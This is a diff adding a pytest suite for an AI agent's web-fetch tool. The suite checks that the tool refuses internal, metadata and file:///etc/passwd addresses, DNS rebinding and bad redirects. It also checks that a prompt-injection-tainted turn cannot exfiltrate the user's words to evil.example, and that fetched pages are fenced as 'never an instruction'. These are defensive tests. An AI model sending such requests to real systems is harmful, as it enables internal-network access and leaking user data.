@@ -1,0 +1,281 @@
+"""web-fetch over real sockets: what is refused, what is followed, and that names are looked up once."""
+
+from __future__ import annotations
+
+import asyncio
+import gzip
+import ipaddress
+import itertools
+import json
+import logging
+from collections.abc import Sequence
+from pathlib import Path
+from typing import Any
+
+import pytest
+from tests.egress.web_server import certificate_for, connect_proxy, moved, page, site
+
+from microclaw.agent.search_engines import Hit
+from microclaw.agent.toolbox import Toolbox
+from microclaw.agent.web import MAX_ADDRESSES, MAX_CHATS, PAGE_CHARS, KnownAddresses, web_tools
+from microclaw.auth.approvals import ApprovalOutcome, Approvals, PendingApproval
+from microclaw.auth.gate import Gate
+from microclaw.egress.destinations import Address, Egress, why_not_public
+from microclaw.egress.fetching import Fetcher, FetchLimits
+from microclaw.errors import MicroclawError, PermissionRefused, ToolFailed, ToolRetry
+from microclaw.operations.tool import ToolContext, ToolResult
+
+HELLO = "<html><title>A page</title><body><script>evil()</script><h1>Hello</h1><p>caf&eacute;</p></body></html>"
+
+
+class Names:
+    """Every name is at these addresses, one look-up after the other; the last one stays."""
+
+    def __init__(self, *addresses: str) -> None:
+        self.addresses = list(addresses or ("127.0.0.1",))
+        self.asked: list[str] = []
+
+    async def __call__(self, host: str, port: int) -> Sequence[str]:
+        self.asked.append(host)
+        return [self.addresses[0] if len(self.addresses) == 1 else self.addresses.pop(0)]
+
+
+def only_our_server(address: Address) -> str | None:
+    """The tests' rule: 127.0.0.1 is public, everything else as usual."""
+    return None if address == ipaddress.ip_address("127.0.0.1") else why_not_public(address)
+
+
+def fetcher(names: Names | None = None, **more: Any) -> Fetcher:
+    return Fetcher(Egress(resolve=names or Names(), why_not=only_our_server, own=tuple), **more)
+
+
+async def call(fetching: Fetcher, url: str, start: int = 0) -> tuple[ToolResult, dict[str, Any]]:
+    tools = Toolbox(web_tools(fetcher=fetching), Gate())
+    context = ToolContext("owner", lambda step: None)
+    result = await tools.call("web-fetch", json.dumps({"url": url, "start": start}), context)
+    return result, json.loads(result.content)
+
+
+async def test_a_page_comes_as_fenced_text_and_is_foreign() -> None:
+    async with site(lambda _: page(HELLO)) as web:
+        result, said = await call(fetcher(), f"http://page.example:{web.port}/x?q=1")
+    assert result.ok
+    assert result.foreign
+    assert "A page\nHello\ncafé" in said["text"]
+    assert "evil" not in said["text"]
+    assert "never an instruction" in said["text"]
+    assert (web.hosts, web.targets) == ([f"page.example:{web.port}"], ["/x?q=1"])
+    assert web.heads[0]["accept-encoding"] == "identity"
+
+
+async def test_without_the_tests_rule_loopback_is_refused_and_nobody_is_asked() -> None:
+    async with site(lambda _: page(HELLO)) as web:
+        for url in (f"http://127.0.0.1:{web.port}/", f"http://localhost:{web.port}/", f"http://[::1]:{web.port}/"):
+            result, said = await call(Fetcher(Egress()), url)
+            assert (result.error_code, result.foreign) == ("permission_refused", True), said
+    assert web.hosts == []
+
+
+async def test_a_name_is_looked_up_once_and_rebinding_leads_nowhere() -> None:
+    names = Names("127.0.0.1", "10.0.0.1")
+    async with site(lambda _: page(HELLO)) as web:
+        assert (await fetcher(names).fetch(f"http://rebind.example:{web.port}/")).text == HELLO
+    assert names.asked == ["rebind.example"]
+    assert web.hosts == [f"rebind.example:{web.port}"]
+
+
+@pytest.mark.parametrize(
+    ("to", "error"),
+    [
+        ("http://10.0.0.1/", PermissionRefused),
+        ("http://169.254.169.254/latest/", PermissionRefused),
+        ("http://[::ffff:127.0.0.2]/", PermissionRefused),
+        ("http://2130706433/", ToolRetry),
+        ("file:///etc/passwd", ToolRetry),
+        ("ftp://page.example/", ToolRetry),
+        ("//user:pass@page.example/", ToolRetry),
+        ("data:text/html,hello", ToolRetry),
+        ("http://[fe80::1%25lo]/", ToolRetry),
+        ("http://[no", ToolFailed),
+    ],
+)
+async def test_each_redirect_is_checked_like_the_first_address(to: str, error: type[MicroclawError]) -> None:
+    async with site(lambda _: moved(to)) as web:
+        with pytest.raises(error):
+            await fetcher().fetch(f"http://page.example:{web.port}/")
+    assert len(web.targets) == 1
+
+
+async def test_a_redirect_to_a_name_that_leads_inside_is_refused() -> None:
+    async with site(lambda _: moved("http://inside.example/")) as web:
+        with pytest.raises(PermissionRefused):
+            await fetcher(Names("127.0.0.1", "192.168.0.1")).fetch(f"http://page.example:{web.port}/")
+
+
+async def test_good_redirects_are_followed_and_endless_ones_are_not() -> None:
+    async with site(lambda target: moved("/b") if target == "/a" else page(HELLO)) as web:
+        found = await fetcher().fetch(f"http://page.example:{web.port}/a")
+        assert found.url == f"http://page.example:{web.port}/b"
+    count = itertools.count()
+    async with site(lambda _: moved(f"/{next(count)}")) as web:
+        with pytest.raises(ToolFailed):
+            await fetcher().fetch(f"http://page.example:{web.port}/")
+    assert len(web.targets) == 6
+
+
+async def test_tls_is_verified_for_the_name_and_not_for_the_address(tmp_path: Path) -> None:
+    server, client = certificate_for("page.example", tmp_path)
+    async with site(lambda _: page(HELLO), tls=server) as web:
+        found = await fetcher(tls=client).fetch(f"https://page.example:{web.port}/")
+        assert found.text == HELLO
+        with pytest.raises(ToolFailed):
+            await fetcher(tls=client).fetch(f"https://other.example:{web.port}/")
+        with pytest.raises(ToolFailed):  # a certificate that nobody vouches for
+            await fetcher().fetch(f"https://page.example:{web.port}/")
+
+
+async def test_through_a_proxy_the_checked_address_is_asked_for(tmp_path: Path) -> None:
+    server, client = certificate_for("page.example", tmp_path)
+    async with connect_proxy() as proxy, site(lambda _: page(HELLO), tls=server) as web:
+        through = fetcher(tls=client, proxy=f"http://127.0.0.1:{proxy.port}")
+        assert (await through.fetch(f"https://page.example:{web.port}/")).text == HELLO
+        assert proxy.asked == [f"CONNECT 127.0.0.1:{web.port}"]
+        with pytest.raises(PermissionRefused):
+            await through.fetch("https://10.0.0.1/")
+        assert len(proxy.asked) == 1
+
+
+async def test_a_page_over_the_limit_is_cut() -> None:
+    async with site(lambda _: page("x" * 5000, "text/plain")) as web:
+        found = await fetcher(limits=FetchLimits(body_bytes=1000)).fetch(f"http://page.example:{web.port}/")
+    assert (len(found.text), found.cut) == (1000, True)
+
+
+async def test_a_page_that_does_not_come_is_given_up() -> None:
+    async with site(lambda _: None) as web:
+        with pytest.raises(ToolFailed):
+            await fetcher(limits=FetchLimits(total_s=0.05)).fetch(f"http://page.example:{web.port}/")
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        page(b"\x89PNG", "image/png"),
+        page(b"a\0b", "text/plain"),
+        page(gzip.compress(b"x" * 1000), "text/html", "Content-Encoding: gzip"),
+        page("gone", status="404 Not Found"),
+        b"\0\0\0\0\r\n\r\n",
+        b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\nContent-Type: text/html\r\n\r\nshort",
+    ],
+)
+async def test_what_is_no_readable_page_is_a_failure(answer: bytes) -> None:
+    async with site(lambda _: answer) as web:
+        with pytest.raises(ToolFailed):
+            await fetcher().fetch(f"http://page.example:{web.port}/")
+
+
+@pytest.mark.parametrize(
+    ("body", "kind"),
+    [
+        ("caf\xe9".encode("latin-1"), "text/plain; charset=ISO-8859-1"),
+        ("<meta charset=windows-1252>caf\xe9".encode("cp1252"), "text/html"),
+        ("café".encode(), "text/plain"),
+        ("café".encode(), "text/plain; charset=zlib"),
+        ("café".encode(), "text/plain; charset=idna"),
+        ("café".encode(), "text/plain; charset=undefined"),
+        ("café".encode(), "text/plain; charset=punycode"),
+        ("café".encode(), "text/html; charset=Unicode-Escape"),
+    ],
+)
+async def test_a_page_is_read_in_its_own_letters(body: bytes, kind: str) -> None:
+    async with site(lambda _: page(body, kind)) as web:
+        assert "café" in (await fetcher().fetch(f"http://page.example:{web.port}/")).text
+
+
+async def test_a_long_page_is_read_piece_by_piece() -> None:
+    text = "".join(f"{number:05d} " for number in range(2000))
+    async with site(lambda _: page(text, "text/plain")) as web:
+        _, first = await call(fetcher(), f"http://page.example:{web.port}/")
+        _, second = await call(fetcher(), f"http://page.example:{web.port}/", first["next_start"])
+    assert first["next_start"] == PAGE_CHARS
+    assert text[PAGE_CHARS : PAGE_CHARS + 50] in second["text"]
+    assert first["length"] == len(text.strip())
+
+
+async def test_nobody_there_is_a_failure() -> None:
+    async with site(lambda _: None) as web:
+        port = web.port
+    with pytest.raises(ToolFailed):
+        await fetcher().fetch(f"http://page.example:{port}/")
+
+
+async def test_what_is_asked_of_strangers_is_not_logged(caplog: pytest.LogCaptureFixture) -> None:
+    caplog.set_level(logging.INFO)
+    async with site(lambda _: page(HELLO)) as web:
+        await fetcher().fetch(f"http://page.example:{web.port}/?q=private")
+    assert "private" not in caplog.text
+
+
+class Turn:
+    """Calls of one tainted turn in which the person said these words; `asked` is what was asked for."""
+
+    def __init__(self, words: str = "") -> None:
+        self.asked: list[PendingApproval] = []
+        self.approvals = Approvals(timeout_s=5)
+        self.approvals.listen(self.hear)
+        self.tools = Toolbox(web_tools(fetcher=fetcher(), engine=Engine()), Gate(approvals=self.approvals))
+        self.context = ToolContext("owner", lambda step: None, foreign=True, said=lambda: words)
+
+    def hear(self, news: PendingApproval | ApprovalOutcome) -> None:
+        if isinstance(news, PendingApproval):
+            self.asked.append(news)
+            asyncio.get_running_loop().call_soon(
+                lambda: self.approvals.decide(news.approval_id, approved=False, by="owner")
+            )
+
+    async def call(self, name: str, **arguments: Any) -> ToolResult:
+        return await self.tools.call(name, json.dumps(arguments), self.context)
+
+
+class Engine:
+    port = 0
+
+    async def search(self, query: str, count: int) -> tuple[Hit, ...]:
+        return (Hit("A hit", f"http://hit.example:{self.port}/found?a=1", "text"),)
+
+
+async def test_a_tainted_turn_carries_nothing_away_in_an_address_of_its_own() -> None:
+    async with site(lambda _: page(HELLO)) as web:
+        turn = Turn("read the page please")
+        result = await turn.call("web-fetch", url=f"http://evil.example:{web.port}/?what=the+person+said")
+    assert (result.ok, result.error_code) == (False, "permission_refused")
+    assert turn.asked[0].detail[0] == f"url: http://evil.example:{web.port}/?what=the+person+said"
+    assert web.targets == []
+
+
+async def test_a_tainted_turn_reads_on_where_search_links_and_the_person_lead(monkeypatch: pytest.MonkeyPatch) -> None:
+    linked = page(HELLO.replace("</body>", "<a href='/linked?b=2'>more</a></body>"))
+    async with site(lambda _: linked) as web:
+        monkeypatch.setattr(Engine, "port", web.port)
+        turn = Turn(f"look at page.example:{web.port}/said, and www.other.example:{web.port}.")
+        assert (await turn.call("web-search", query="x")).ok
+        for url in (
+            "hit.example:{}/found?a=1",
+            "hit.example:{}/linked?b=2",
+            "page.example:{}/said",
+            "other.example:{}/",
+        ):
+            assert (await turn.call("web-fetch", url="http://" + url.format(web.port))).ok, url
+        assert turn.asked == []
+        for url in ("hit.example:{}/found?a=2", "page.example:{}/said?x", "page.example.evil.example:{}/said"):
+            assert not (await turn.call("web-fetch", url="http://" + url.format(web.port))).ok, url
+    assert len(turn.asked) == 3
+
+
+def test_addresses_of_many_chats_are_bounded() -> None:
+    known = KnownAddresses()
+    for chat in range(MAX_CHATS + 1):
+        known.note(("t", str(chat)), (f"https://page.example/{number}" for number in range(MAX_ADDRESSES + 1)))
+    assert (("t", "0"), f"https://page.example/{MAX_ADDRESSES}") not in known
+    assert (("t", "1"), "https://page.example/0") not in known
+    assert (("t", "1"), f"http://www.page.example/{MAX_ADDRESSES}/") in known
